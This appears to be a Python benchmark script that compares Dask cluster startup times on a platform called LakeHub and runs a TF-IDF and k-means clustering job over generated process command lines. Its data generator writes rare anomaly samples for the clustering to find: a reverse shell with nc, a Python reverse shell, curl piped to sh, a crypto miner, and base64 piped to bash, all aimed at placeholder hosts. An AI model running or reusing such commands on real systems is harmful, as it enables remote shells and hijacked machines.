"""Benchmark: per-user Dask clusters, request to first result and a TF-IDF + k-means workload.

Request to first result, each run on three sides in rotating order (every cluster is shut down
after its run, not timed, and its processes must be gone before the next run):
  * LakeHub: ``lakehub.compute.dask(workers=1, client=lakehub.connect(url, token))`` as a regular
    user, then ``client.submit(lambda: 1 + 1).result()``;
  * anchor: a raw ``dask-gateway-server`` (UnsafeLocalBackend, SimpleAuthenticator, stock
    defaults otherwise) running the same ``dask`` environment's ``dask scheduler`` and
    ``dask worker``: ``Gateway.new_cluster()``, ``scale(1)``, ``get_client()``,
    ``submit().result()``;
  * anchor: ``distributed.LocalCluster(n_workers=1, processes=True)``, ``Client``, result.

Workload, each run on both sides in alternating order: generated process command lines (Parquet
in the user's bucket, written once) read with ``dd.read_parquet("s3://...")``, hashed TF-IDF per
partition (scikit-learn's ``HashingVectorizer``, document frequencies summed over the
partitions), then k-means (k-means++ on a sample, Lloyd's iterations as map-reduce over the
partitions) for each k of an elbow sweep, with its inertia. Sides: the user's LakeHub cluster
with 2 workers, and a ``LocalCluster`` with 2 worker processes reading the same files.

    .venv/bin/python bench/dask.py [--runs 5] [--rows 300000] [--keep]
"""

from __future__ import annotations

import argparse
import contextlib
import importlib.util
import json
import os
import secrets
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
# this file is called dask.py: its own folder must not be on the import path, or `import dask`
# would find it instead of the library
sys.path[:] = [p for p in sys.path if Path(p or ".").resolve() != HERE]
_spec = importlib.util.spec_from_file_location("benchlib", HERE / "benchlib.py")
assert _spec is not None and _spec.loader is not None
B = importlib.util.module_from_spec(_spec)
sys.modules["benchlib"] = B
_spec.loader.exec_module(B)

PARTS = 8  # Parquet files, so partitions (4 per worker)
N_FEATURES = 2**14  # hashed vocabulary
KS = (2, 4, 8, 16)  # the elbow sweep
ITERATIONS = 10  # Lloyd's iterations per k (fixed: the same work on both sides)
SAMPLE = 500  # rows per partition for the k-means++ start
SEED = 20261122
GB = 2**30


# ------------------------------------------------------------------------------ the hub
def wait_dask_environment(hub: Any, timeout: float = 1200) -> Path:
    """Wait (not timed) until the hub's ``dask`` environment is usable; its build directory."""
    deadline, last = time.monotonic() + timeout, None
    with hub.admin_http() as c:
        while time.monotonic() < deadline:
            env = {e["name"]: e for e in c.get("/environments").json()}["dask"]
            seen = (env["status"], env.get("step"))
            if seen != last:
                print(f"  dask environment: {env['status']} {env.get('step') or ''}", flush=True)
                last = seen
            if env["usable"] and env["status"] not in ("queued", "building"):
                from lakehub.server.config import load_settings

                return (load_settings(data_dir=hub.data_dir).envs_dir / "dask").resolve()
            if env["status"] == "failed" and not env["usable"]:
                raise RuntimeError("the dask environment failed to build")
            time.sleep(1)
    raise RuntimeError("the dask environment was not built in time")


def bytecode_state(env_dir: Path) -> dict[str, int]:
    """How many of the cluster packages' modules have bytecode in the environment, as built."""
    site = next((env_dir / "lib").glob("python3*/site-packages"))
    out = {}
    for pkg in ("dask", "distributed", "dask_gateway", "pandas", "tornado"):
        sources = list((site / pkg).rglob("*.py"))
        cached = sum(1 for f in sources if list((f.parent / "__pycache__").glob(f"{f.stem}.*.pyc")))
        out[f"{pkg}: modules"], out[f"{pkg}: with bytecode"] = len(sources), cached
    return out


def env_versions(python: Path) -> dict[str, str]:
    code = (
        "import json, dask, distributed, sklearn, pandas, pyarrow, s3fs, sys; "
        "print(json.dumps({m.__name__: m.__version__ for m in "
        "(dask, distributed, sklearn, pandas, pyarrow, s3fs)} | "
        "{'python': sys.version.split()[0]}))"
    )
    # -B: writes no bytecode into the environment (see bytecode_state)
    out = subprocess.run(
        [str(python), "-B", "-c", code], capture_output=True, text=True, timeout=300
    )
    return json.loads(out.stdout) if out.returncode == 0 else {"error": out.stderr[-500:]}


# ------------------------------------------------------------------------------ raw gateway
class RawGateway:
    """dask-gateway-server as it comes: UnsafeLocalBackend, simple auth, in-memory database."""

    def __init__(self, root: Path, marker: str, env_dir: Path) -> None:
        self.dir = root / "raw-gateway"
        self.dir.mkdir()
        self.port = B.free_port()
        self.password = secrets.token_urlsafe(12)
        self.log = self.dir / "gateway.log"
        dask_bin = env_dir / "bin" / "dask"
        (self.dir / "config.py").write_text(f"""\
c.Proxy.address = "127.0.0.1:{self.port}"
c.DaskGateway.authenticator_class = "dask_gateway_server.auth.SimpleAuthenticator"
c.SimpleAuthenticator.password = {self.password!r}
c.DaskGateway.backend_class = "dask_gateway_server.backends.local.UnsafeLocalBackend"
c.UnsafeLocalBackend.clusters_directory = {str(self.dir / "clusters")!r}
c.UnsafeLocalBackend.inherited_environment = ["LANG", "LC_ALL"]
c.ClusterConfig.scheduler_cmd = [{str(dask_bin)!r}, "scheduler"]
c.ClusterConfig.worker_cmd = [{str(dask_bin)!r}, "worker"]
# the same bytecode as LakeHub's clusters: its processes, as root here, must not add any to the
# environment (LakeHub's run as the owner's account, which cannot write there)
c.ClusterConfig.environment = {{"PATH": {f"{dask_bin.parent}:/usr/local/bin:/usr/bin:/bin"!r},
                               "PYTHONDONTWRITEBYTECODE": "1", "BENCH_MARK": {marker!r}}}
""")
        self.proc: subprocess.Popen[bytes] | None = None

    def start(self) -> None:
        with self.log.open("wb") as log:
            self.proc = subprocess.Popen(
                [str(B.VENV_BIN / "dask-gateway-server"), "-f", str(self.dir / "config.py")],
                cwd=self.dir,
                stdout=log,
                stderr=subprocess.STDOUT,
                start_new_session=True,
            )
        url = f"http://127.0.0.1:{self.port}/api/health"
        if not B.wait_until(lambda: B.http_status(url) == 200, 60, 0.1):
            tail = self.log.read_text()[-2000:]
            raise RuntimeError(f"dask-gateway-server did not answer:\n{tail}")

    def gateway(self) -> Any:
        from dask_gateway import BasicAuth, Gateway

        return Gateway(f"http://127.0.0.1:{self.port}", auth=BasicAuth("bench", self.password))

    def stop(self) -> None:
        if self.proc is not None:
            B.kill_groups([self.proc])


# ------------------------------------------------------------------------------ helpers
def cluster_procs(marker: str) -> list[tuple[int, str]]:
    """Marked scheduler and worker processes (gateway clusters, LocalCluster's spawned ones)."""
    return [
        (pid, cmd)
        for pid, cmd in B.leftovers(marker)
        if " scheduler" in cmd or " worker" in cmd or "spawn_main" in cmd
    ]


def wait_clusters_gone(marker: str, label: str, problems: list[str]) -> None:
    """Wait (bounded) until a run's scheduler and workers are gone; kill and report stragglers."""
    if not B.wait_until(lambda: not cluster_procs(marker), 60, 0.1):
        left = cluster_procs(marker)
        problems.append(
            f"{label}: cluster processes still there after 60 s: "
            + "; ".join(c[:120] for _, c in left)
        )
        for pid, _ in left:
            with contextlib.suppress(ProcessLookupError, PermissionError):
                os.kill(pid, signal.SIGKILL)


def reap(marker: str, wait: float) -> list[str]:
    """benchlib's reap, except for multiprocessing's resource tracker: LocalCluster made it for
    this process, and it ends with this process."""

    def left() -> list[tuple[int, str]]:
        return [p for p in B.leftovers(marker) if "resource_tracker" not in p[1]]

    B.wait_until(lambda: not left(), wait, 0.2)
    report = [f"{pid} {cmd[:160]}" for pid, cmd in left()]
    for pid, _ in left():
        with contextlib.suppress(ProcessLookupError, PermissionError):
            os.kill(pid, signal.SIGKILL)
    return report


def added_worker_at(client: Any) -> float | None:
    """Wall-clock time the scheduler registered its first worker (its own event log)."""
    try:
        events = client.get_events("all")
    except Exception:  # noqa: BLE001 (a breakdown detail, never a failure)
        return None
    times = [
        ts for ts, msg in events if isinstance(msg, dict) and msg.get("action") == "add-worker"
    ]
    return min(times) if times else None


def gateway_events(log: Path, cluster: str, since: float) -> dict[str, float]:
    """When dask-gateway-server logged each step of one cluster's start."""
    out: dict[str, float] = {}
    worker = None
    for ts, _name, msg in B.jupyter_events(log):
        msg = msg.strip()
        if ts < since - 1:
            continue
        key = None
        if msg.startswith(f"Submitting cluster {cluster}"):
            key = "submitting"
        elif msg == f"Cluster {cluster} submitted":
            key = "submitted"
        elif msg == f"Cluster {cluster} is running":
            key = "running"
        elif msg.startswith("Created worker ") and msg.endswith(f"for cluster {cluster}"):
            key, worker = "worker_created", worker or msg.split()[2]
        elif worker and msg == f"Worker {worker} submitted":
            key = "worker_submitted"
        if key:
            out.setdefault(key, ts)
    return out


# ------------------------------------------------------------------------------ first result
FIRST_STEPS = {
    "LakeHub": [
        ("submitting", "gateway: submitting cluster (request planned)"),
        ("submitted", "gateway: scheduler process started"),
        ("running", "gateway: cluster running (scheduler reported)"),
        ("api_returned", "POST /api/compute/dask returned"),
        ("worker_created", "gateway: worker created (scale)"),
        ("worker_submitted", "gateway: worker process started"),
        ("connected", "client connected to the scheduler"),
        ("worker_added", "scheduler: first worker registered"),
        ("returned", "lakehub.compute.dask() returned"),
        ("result", "first result"),
    ],
    "raw gateway": [
        ("submitting", "gateway: submitting cluster"),
        ("submitted", "gateway: scheduler process started"),
        ("running", "gateway: cluster running (scheduler reported)"),
        ("new_cluster", "new_cluster() returned"),
        ("worker_created", "gateway: worker created (scale)"),
        ("worker_submitted", "gateway: worker process started"),
        ("connected", "get_client() returned"),
        ("worker_added", "scheduler: first worker registered"),
        ("result", "first result"),
    ],
    "LocalCluster": [
        ("worker_added", "scheduler: first worker registered"),
        ("cluster", "LocalCluster() returned"),
        ("connected", "Client() returned"),
        ("result", "first result"),
    ],
}


def first_lakehub(sdk: Any, gateway_log: Path) -> tuple[float, dict[str, float], Any]:
    import distributed

    import lakehub.compute

    marks: dict[str, float] = {}
    plain_request = sdk.request

    def request(method: str, path: str, **kw: Any) -> Any:
        out = plain_request(method, path, **kw)
        if method == "POST" and path == "/api/compute/dask":
            marks["api_returned"] = time.time()
        return out

    plain_wait = distributed.Client.wait_for_workers

    def wait_for_workers(self: Any, *args: Any, **kw: Any) -> Any:
        marks.setdefault("connected", time.time())
        return plain_wait(self, *args, **kw)

    sdk.request = request
    distributed.Client.wait_for_workers = wait_for_workers  # type: ignore[method-assign]
    try:
        w0, t0 = time.time(), time.perf_counter()
        client = lakehub.compute.dask(workers=1, client=sdk)
        marks["returned"] = time.time()
        assert client.submit(lambda: 1 + 1).result(timeout=60) == 2
        elapsed = time.perf_counter() - t0
        marks["result"] = time.time()
    finally:
        distributed.Client.wait_for_workers = plain_wait  # type: ignore[method-assign]
        del sdk.request
    marks["worker_added"] = added_worker_at(client) or float("nan")
    marks.update(gateway_events(gateway_log, client.cluster.name, w0))
    return elapsed, {k: v - w0 for k, v in marks.items()}, client


def stop_lakehub(client: Any, sdk: Any) -> None:
    import lakehub.compute

    with contextlib.suppress(Exception):
        client.cluster.shutdown()
    with contextlib.suppress(Exception):
        client.close()
    if not B.wait_until(lambda: lakehub.compute.clusters(client=sdk) == [], 60, 0.2):
        raise RuntimeError("a LakeHub cluster was still listed 60 s after its shutdown")


def first_raw(raw: RawGateway) -> tuple[float, dict[str, float], Any]:
    gw = raw.gateway()
    marks: dict[str, float] = {}
    w0, t0 = time.time(), time.perf_counter()
    cluster = gw.new_cluster()
    marks["new_cluster"] = time.time()
    cluster.scale(1)
    client = cluster.get_client(set_as_default=False)
    marks["connected"] = time.time()
    assert client.submit(lambda: 1 + 1).result(timeout=60) == 2
    elapsed = time.perf_counter() - t0
    marks["result"] = time.time()
    marks["worker_added"] = added_worker_at(client) or float("nan")
    marks.update(gateway_events(raw.log, cluster.name, w0))

    def stop() -> None:
        with contextlib.suppress(Exception):
            client.close()
        with contextlib.suppress(Exception):
            cluster.shutdown()
        gw.close()

    return elapsed, {k: v - w0 for k, v in marks.items()}, stop


def first_local() -> tuple[float, dict[str, float], Any]:
    from distributed import Client, LocalCluster

    marks: dict[str, float] = {}
    w0, t0 = time.time(), time.perf_counter()
    cluster = LocalCluster(
        n_workers=1,
        processes=True,
        threads_per_worker=1,
        memory_limit="2GiB",
        host="127.0.0.1",
        dashboard_address="127.0.0.1:0",
    )
    marks["cluster"] = time.time()
    client = Client(cluster, set_as_default=False)
    marks["connected"] = time.time()
    assert client.submit(lambda: 1 + 1).result(timeout=60) == 2
    elapsed = time.perf_counter() - t0
    marks["result"] = time.time()
    marks["worker_added"] = added_worker_at(client) or float("nan")

    def stop() -> None:
        client.close()
        cluster.close()

    return elapsed, {k: v - w0 for k, v in marks.items()}, stop


# ------------------------------------------------------------------------------ the data
# the most common first: picks are Zipf-like, as names in a real process table
APPS = [
    "billing",
    "search",
    "ingest",
    "auth",
    "reports",
    "etl",
    "api",
    "frontend",
    "metrics",
    "orders",
    "inventory",
    "notify",
    "ml-train",
    "feature-store",
    "scheduler",
    "gateway",
    "payments",
    "catalog",
    "recommend",
    "audit",
    "backup",
    "crm",
    "geo",
    "mailer",
]
USERS = [
    "root",
    "www-data",
    "postgres",
    "svc-etl",
    "svc-api",
    "jenkins",
    "alice",
    "bob",
    "carol",
    "dave",
    "erin",
    "frank",
    "grace",
    "heidi",
    "nobody",
    "mysql",
    "kafka",
    "spark",
]
PY_MODULES = [
    "pip",
    "http.server",
    "pytest",
    "celery",
    "gunicorn",
    "uvicorn",
    "jupyter",
    "ipykernel_launcher",
    "venv",
    "json.tool",
    "unittest",
    "myapp.cli",
]
JAVA_MAIN = [
    "kafka.Kafka",
    "org.apache.zookeeper.server.quorum.QuorumPeerMain",
    "org.elasticsearch.bootstrap.Elasticsearch",
    "org.apache.spark.deploy.worker.Worker",
    "org.apache.catalina.startup.Bootstrap",
    "org.apache.hadoop.hdfs.server.datanode.DataNode",
    "com.example.{app}.Application",
    "org.apache.flink.runtime.taskexecutor.TaskManagerRunner",
]
DAEMONS = [
    "/lib/systemd/systemd-journald",
    "/usr/sbin/sshd -D",
    "/usr/sbin/cron -f",
    "/usr/sbin/rsyslogd -n -iNONE",
    "/lib/systemd/systemd-udevd",
    "/lib/systemd/systemd-logind",
    "/usr/bin/dbus-daemon --system --address=systemd: --nofork --nopidfile "
    "--systemd-activation --syslog-only",
    "/sbin/init",
    "/usr/sbin/chronyd -F 1",
    "/usr/bin/containerd",
    "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock",
    "nginx: worker process",
    "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;",
    "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main -c "
    "config_file=/etc/postgresql/15/main/postgresql.conf",
]


def _zipf(rng: Any, n: int, size: int, a: float = 1.3) -> Any:
    """Indices 0..n-1, a few very common and a long tail (as names in real process tables)."""
    import numpy as np

    w = 1.0 / np.arange(1, n + 1) ** a
    return rng.choice(n, size=size, p=w / w.sum())


def command_lines(n: int, seed: int) -> list[str]:
    """``n`` process command lines with the mix and the variety of a fleet's process table."""
    import numpy as np

    rng = np.random.default_rng(seed)
    kinds = [
        "kernel",
        "daemon",
        "python",
        "java",
        "bash",
        "node",
        "shim",
        "postgres",
        "user",
        "odd",
    ]
    p = np.array([0.14, 0.16, 0.22, 0.12, 0.12, 0.05, 0.06, 0.06, 0.065, 0.005])
    kind = rng.choice(len(kinds), size=n, p=p / p.sum())
    app = _zipf(rng, len(APPS), n)
    user = _zipf(rng, len(USERS), n)
    mod = _zipf(rng, len(PY_MODULES), n, 1.0)
    jmain = _zipf(rng, len(JAVA_MAIN), n, 1.0)
    daemon = _zipf(rng, len(DAEMONS), n, 0.8)
    num = rng.integers(1, 64, size=n)
    port = rng.integers(1024, 65535, size=n)
    mem = rng.choice([1, 2, 4, 8, 16, 31], size=n, p=[0.15, 0.3, 0.25, 0.18, 0.1, 0.02])
    day = rng.integers(1, 29, size=n)
    hexes = [rng.bytes(32).hex() for _ in range(2048)]
    out = []
    for i in range(n):
        a, u, k = APPS[app[i]], USERS[user[i]], kinds[kind[i]]
        h, d, pt, m = hexes[i % 2048], int(day[i]), int(port[i]), int(mem[i])
        if k == "kernel":
            out.append(
                [
                    "[kworker/{}:{}-events]",
                    "[ksoftirqd/{}]",
                    "[migration/{}]",
                    "[jbd2/sda{}-8]",
                    "[kworker/u{}:{}-writeback]",
                ][num[i] % 5].format(num[i] % 2, num[i])
            )
        elif k == "daemon":
            out.append(DAEMONS[daemon[i]])
        elif k == "python":
            mm = PY_MODULES[mod[i]]
            args = {
                "pip": f"install --no-cache-dir {a}-client=={d % 5}.{d}.{num[i]}",
                "http.server": f"{pt} --bind 127.0.0.1 --directory /srv/{a}/static",
                "pytest": f"tests/test_{a.replace('-', '_')}.py -x -q --maxfail={num[i] % 5 + 1}",
                "celery": f"-A {a}.tasks worker --loglevel=INFO --concurrency={num[i] % 16 + 1}",
                "gunicorn": f"{a}.wsgi:application -w {num[i] % 9 + 2} --bind 127.0.0.1:{pt}",
                "uvicorn": f"{a}.main:app --host 127.0.0.1 --port {pt} --proxy-headers",
                "jupyter": f"lab --no-browser --port={pt} --notebook-dir=/home/{u}",
                "ipykernel_launcher": f"-f /home/{u}/.local/share/jupyter/runtime/kernel-{h[:8]}-"
                f"{h[8:12]}-{h[12:16]}.json",
                "venv": f"/opt/venvs/{a}",
                "json.tool": f"/var/lib/{a}/state.json",
                "unittest": f"discover -s /srv/{a}/tests -p 'test_*.py'",
                "myapp.cli": f"--config /etc/{a}/{a}.yaml sync --since 2026-11-{d:02d}",
            }[mm]
            py = ["/usr/bin/python3", "python3", f"/opt/venvs/{a}/bin/python"][num[i] % 3]
            out.append(f"{py} -m {mm} {args}")
        elif k == "java":
            main = JAVA_MAIN[jmain[i]].format(app=a.replace("-", ""))
            out.append(
                f"java -Xmx{m}g -Xms{max(m // 2, 1)}g -XX:+UseG1GC "
                f"-XX:MaxGCPauseMillis={(num[i] % 4 + 1) * 50} "
                f"-Dlog4j.configurationFile=/etc/{a}/log4j2.xml "
                f"-cp /opt/{a}/lib/*:/opt/{a}/conf {main} "
                f"--config /etc/{a}/{a}.properties"
            )
        elif k == "bash":
            out.append(
                "bash -c '"
                + [
                    f"tar czf /backup/{a}-2026-11-{d:02d}.tar.gz /var/lib/{a}",
                    f"find /var/log/{a} -name '*.log' -mtime +{num[i] % 30} -delete",
                    f"cd /srv/{a} && git pull --ff-only && make deploy",
                    f"pg_dump -U {u} {a} | gzip > /backup/{a}-2026-11-{d:02d}.sql.gz",
                    f"rsync -az --delete /data/{a}/ backup{num[i] % 4}:/data/{a}/",
                    f"while true; do sleep {num[i]}; done",
                    f"curl -fsS http://127.0.0.1:{pt}/health || systemctl restart {a}",
                    f"/opt/{a}/bin/rotate-logs.sh --keep {num[i] % 10 + 1}",
                ][(app[i] + num[i]) % 8]
                + "'"
            )
        elif k == "node":
            out.append(
                [
                    f"node /srv/{a}/dist/server.js --port {pt}",
                    f"npm run start --prefix /srv/{a}",
                    f"node /usr/lib/node_modules/pm2/bin/pm2 start /srv/{a}/pm2.config.js",
                ][num[i] % 3]
            )
        elif k == "shim":
            out.append(
                f"/usr/bin/containerd-shim-runc-v2 -namespace moby -id {h} "
                "-address /run/containerd/containerd.sock"
            )
        elif k == "postgres":
            state = ["idle", "SELECT", "idle in transaction", "COMMIT"][num[i] % 4]
            out.append(f"postgres: 15/main: {u} {a.replace('-', '_')} 127.0.0.1({pt}) {state}")
        elif k == "user":
            out.append(
                [
                    f"ssh -o StrictHostKeyChecking=no {u}@{a}-{num[i] % 8} uptime",
                    f"vim /etc/{a}/{a}.conf",
                    "top -b -n 1",
                    "ps aux --sort=-%cpu",
                    f"grep -r ERROR /var/log/{a}",
                    f"less /var/log/{a}/{a}.log",
                    f"kubectl -n {a} logs deploy/{a} --tail=200",
                ][num[i] % 7]
            )
        else:  # rare and odd: what the clustering is meant to find
            out.append(
                [
                    f"bash -c 'curl -s http://{h[:6]}.example/x.sh | sh'",
                    f"/tmp/.{h[:6]}/kdevtmpfsi -B -o stratum+tcp://pool.example:{pt}",
                    f"nc -e /bin/sh 192.0.2.{num[i]} {pt}",
                    f"python3 -c 'import socket,os,pty;s=socket.socket();"
                    f's.connect(("192.0.2.{num[i]}",{pt}));pty.spawn("/bin/sh")\'',
                    f"echo {h[:40]} | base64 -d | bash",
                ][num[i] % 5]
            )
    return out


def write_data(creds: Any, prefix: str, rows: int) -> int:
    """Write ``rows`` command lines as PARTS Parquet files under ``prefix``; their total bytes."""
    import numpy as np
    import pyarrow as pa
    import pyarrow.parquet as pq

    fs = creds.filesystem()
    rng = np.random.default_rng(SEED)
    total = 0
    per = -(-rows // PARTS)
    for part in range(PARTS):
        n = min(per, rows - part * per)
        lines = command_lines(n, SEED + part)
        start = np.datetime64("2026-11-01T00:00:00", "ms")
        offsets = np.sort(rng.integers(0, 21 * 86400_000, size=n)).astype("timedelta64[ms]")
        table = pa.table(
            {
                "ts": start + offsets,
                "host": [f"node-{x:03d}" for x in rng.integers(0, 120, size=n)],
                "user": [USERS[x] for x in _zipf(rng, len(USERS), n)],
                "pid": rng.integers(2, 4_000_000, size=n).astype("int32"),
                "cmdline": lines,
            }
        )
        path = f"{prefix}/part-{part:03d}.parquet"
        with fs.open(path, "wb") as f:
            pq.write_table(table, f)
        total += fs.size(path)
    return total


# ------------------------------------------------------------------------------ the workload
# These run on the workers: cloudpickle sends them by value (they are in __main__), so they
# import what they need themselves and use no module-level objects but plain constants.
def hash_counts(lines: Any) -> Any:
    from sklearn.feature_extraction.text import HashingVectorizer

    hv = HashingVectorizer(
        n_features=N_FEATURES,
        token_pattern=r"(?u)[A-Za-z_][\w.-]+",
        alternate_sign=False,
        norm=None,
    )
    return hv.transform(lines.tolist()).tocsr()


def doc_freq(counts: Any) -> tuple[int, Any]:
    import numpy as np

    return counts.shape[0], np.bincount(counts.indices, minlength=counts.shape[1])


def tfidf(counts: Any, idf: Any) -> Any:
    import scipy.sparse as sp
    from sklearn.preprocessing import normalize

    return normalize(counts @ sp.diags(idf), norm="l2", copy=False).tocsr()


def sample_rows(x: Any, part: int, m: int) -> Any:
    import numpy as np

    rng = np.random.default_rng(SEED + part)
    return x[np.sort(rng.choice(x.shape[0], size=min(m, x.shape[0]), replace=False))]


def init_centres(k: int, *samples: Any) -> Any:
    import numpy as np
    import scipy.sparse as sp
    from sklearn.cluster import kmeans_plusplus

    centres, _ = kmeans_plusplus(sp.vstack(samples).tocsr(), k, random_state=SEED)
    return np.asarray(centres, dtype=np.float64)


def assign(x: Any, centres: Any) -> tuple[Any, Any, float]:
    """Lloyd's map step for one partition: per-cluster sums and counts, and the inertia."""
    import numpy as np
    import scipy.sparse as sp

    k = centres.shape[0]
    xsq = np.asarray(x.multiply(x).sum(axis=1)).ravel()
    d = xsq[:, None] - 2 * np.asarray(x @ centres.T) + (centres**2).sum(axis=1)[None, :]
    labels = d.argmin(axis=1)
    inertia = float(np.maximum(d[np.arange(len(labels)), labels], 0).sum())
    onehot = sp.csr_matrix(
        (np.ones(len(labels)), (labels, np.arange(len(labels)))), shape=(k, x.shape[0])
    )
    return np.asarray((onehot @ x).todense()), np.bincount(labels, minlength=k), inertia


def update(centres: Any, *partials: Any) -> Any:
    """Lloyd's reduce step: new centres (an empty cluster keeps its old one)."""
    sums = sum(p[0] for p in partials)
    counts = sum(p[1] for p in partials)
    new = centres.copy()
    full = counts > 0
    new[full] = sums[full] / counts[full][:, None]
    return new


def total_inertia(*partials: Any) -> float:
    return float(sum(p[2] for p in partials))


def workload(client: Any, url: str, storage_options: dict[str, Any]) -> dict[str, Any]:
    """Read, vectorise and sweep k on one cluster; seconds per phase and inertia per k."""
    import dask.dataframe as dd
    import numpy as np
    from distributed import wait

    import dask

    t0 = time.perf_counter()
    ddf = dd.read_parquet(url, columns=["cmdline"], storage_options=storage_options)
    parts = ddf["cmdline"].to_delayed()
    counts = client.compute([dask.delayed(hash_counts)(p) for p in parts])
    freqs = client.gather(client.map(doc_freq, counts))
    rows = sum(n for n, _ in freqs)
    df = sum(f for _, f in freqs)
    idf = np.log((1 + rows) / (1 + df)) + 1  # scikit-learn's smooth idf
    idf_f = client.scatter(idf, broadcast=True)
    xs = client.map(tfidf, counts, idf=idf_f)
    wait(xs)
    del counts
    t_vec = time.perf_counter()
    samples = [client.submit(sample_rows, x, i, SAMPLE) for i, x in enumerate(xs)]
    inertia: dict[int, float] = {}
    per_k: dict[int, float] = {}
    for k in KS:
        tk = time.perf_counter()
        centres = client.submit(init_centres, k, *samples)
        for _ in range(ITERATIONS):
            partials = client.map(assign, xs, centres=centres)
            centres = client.submit(update, centres, *partials)
        last = client.map(assign, xs, centres=centres)
        inertia[k] = client.submit(total_inertia, *last).result(timeout=600)
        per_k[k] = time.perf_counter() - tk
    total = time.perf_counter() - t0
    del xs, samples, centres, partials, last  # released (their keys are never reused)
    return {
        "rows": rows,
        "seconds": total,
        "vectorise_seconds": t_vec - t0,
        "kmeans_seconds": total - (t_vec - t0),
        "per_k_seconds": per_k,
        "inertia": inertia,
        "rows_per_s": rows / total,
    }


def warm(client: Any) -> None:
    """Import what the workload uses on every worker and on the scheduler (not timed).

    The scheduler unpickles the tasks, so it imports dask.dataframe, pandas and s3fs when the
    first Parquet graph arrives. Without bytecode that compiles for tens of seconds on a busy
    machine, and in the scheduler's event loop it can miss dask-gateway's heartbeat (30 s) and
    have the cluster stopped. So the scheduler imports in a thread of its own, and the
    benchmark waits (bounded) until it is done."""

    def imports() -> bool:
        import dask.dataframe  # noqa: F401
        import pyarrow.parquet  # noqa: F401
        import s3fs  # noqa: F401
        import scipy.sparse  # noqa: F401
        import sklearn.cluster  # noqa: F401
        import sklearn.feature_extraction.text  # noqa: F401

        return True

    def in_thread() -> bool:
        import sys
        import threading

        def work() -> None:
            imports()
            sys.bench_warm = True  # type: ignore[attr-defined]

        threading.Thread(target=work, daemon=True).start()
        return True

    def done() -> bool:
        import sys

        return bool(getattr(sys, "bench_warm", False))

    client.run_on_scheduler(in_thread)
    client.run(imports)
    if not B.wait_until(lambda: client.run_on_scheduler(done), 600, 1.0):
        raise RuntimeError("the scheduler did not finish its imports in 600 s")


# ------------------------------------------------------------------------------ main
NOISE = {"gateway_del": 0}


def quiet_known_noise() -> None:
    """Two messages every run would print otherwise: the client's and the clusters' Python
    differ in the patch level only (versions are printed once instead), and a ``Gateway``
    object that the SDK leaves behind fails in ``__del__`` once its loop is stopped (counted)."""
    import warnings

    from distributed.versions import VersionMismatchWarning

    warnings.filterwarnings("ignore", category=VersionMismatchWarning)
    default = sys.unraisablehook

    def hook(unraisable: Any) -> None:
        obj = getattr(unraisable, "object", None)
        if getattr(obj, "__qualname__", "") == "Gateway.__del__" and isinstance(
            unraisable.exc_value, RuntimeError
        ):
            NOISE["gateway_del"] += 1
            return
        default(unraisable)

    sys.unraisablehook = hook


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--runs", type=int, default=5, help="runs per side, for both parts")
    ap.add_argument("--rows", type=int, default=200_000, help="command lines in the data set")
    ap.add_argument("--keep", action="store_true", help="keep the temporary directory")
    args = ap.parse_args()
    B.install_sigterm()
    quiet_known_noise()
    started = time.perf_counter()
    info = B.host_info()
    info["other_load"] = B.other_load_note()
    root = B.bench_root("dask")
    marker = str(root)
    os.environ["BENCH_MARK"] = marker  # LocalCluster's worker processes inherit it
    hub = B.bench_hub(root)
    raw: RawGateway | None = None
    problems: list[str] = []
    first: dict[str, list[float]] = {s: [] for s in FIRST_STEPS}
    steps: dict[str, list[dict[str, float]]] = {s: [] for s in FIRST_STEPS}
    work: dict[str, list[dict[str, Any]]] = {"LakeHub": [], "LocalCluster": []}
    loads: list[tuple[float, float, float]] = []
    versions: dict[str, Any] = {}
    bytecode: dict[str, int] = {}
    data_bytes = 0
    try:
        print(f"dask benchmark: {args.runs} runs, {args.rows} rows, data in {root}", flush=True)
        hub.up(timeout=900)
        env_dir = wait_dask_environment(hub)
        versions = {
            "dask environment": env_versions(env_dir / "bin" / "python"),
            "benchmark process": env_versions(Path(sys.executable)),
        }
        print(f"  versions: {json.dumps(versions)}", flush=True)
        with contextlib.suppress(OSError, StopIteration):
            bytecode = bytecode_state(env_dir)
        print(f"  bytecode in the dask environment as built: {json.dumps(bytecode)}", flush=True)
        name = f"bench{secrets.token_hex(3)}"
        hub.add_user(name)
        token = hub.token(name)
        import lakehub

        sdk = lakehub.connect(hub.url, token)
        creds = sdk.lake.credentials()
        raw = rawgw = RawGateway(root, marker, env_dir)
        raw.start()
        gateway_log = hub.data_dir / "logs" / "gateway.log"
        import dask_gateway  # noqa: F401  (imports before the clock starts, for every side)
        import distributed  # noqa: F401

        import lakehub.compute  # noqa: F401

        # --------------------------------------------------------------- 1. first result
        print("\nrequest to first result (cluster shut down after each run, not timed)")
        sides: list[tuple[str, Callable[[], tuple[float, dict[str, float], Any]]]] = [
            ("LakeHub", lambda: first_lakehub(sdk, gateway_log)),
            ("raw gateway", lambda: first_raw(rawgw)),
            ("LocalCluster", first_local),
        ]
        for r in range(args.runs):
            order = sides[r % 3 :] + sides[: r % 3]
            loads.append(os.getloadavg())
            line = []
            for label, fn in order:
                try:
                    elapsed, marks, handle = fn()
                except Exception as err:  # noqa: BLE001 (reported, the run goes on)
                    problems.append(f"first result, {label}, run {r + 1}: {err!r}")
                    line.append(f"{label} failed")
                    wait_clusters_gone(marker, label, problems)
                    continue
                first[label].append(elapsed)
                steps[label].append(marks)
                line.append(f"{label} {elapsed:.2f} s")
                try:
                    if label == "LakeHub":
                        stop_lakehub(handle, sdk)
                    else:
                        handle()
                except Exception as err:  # noqa: BLE001
                    problems.append(f"stopping {label}, run {r + 1}: {err!r}")
                wait_clusters_gone(marker, label, problems)
            print(
                f"  run {r + 1}/{args.runs} (load {loads[-1][0]:.2f}): " + " | ".join(line),
                flush=True,
            )
        raw.stop()

        # --------------------------------------------------------------- 2. workload
        prefix = f"{creds.bucket}/bench-dask/cmdlines"
        print(
            f"\nworkload: writing {args.rows} command lines to s3://{prefix}/ (not timed)",
            flush=True,
        )
        data_bytes = write_data(creds, prefix, args.rows)
        url = f"s3://{prefix}/"
        so = creds.storage_options()
        from distributed import Client, LocalCluster

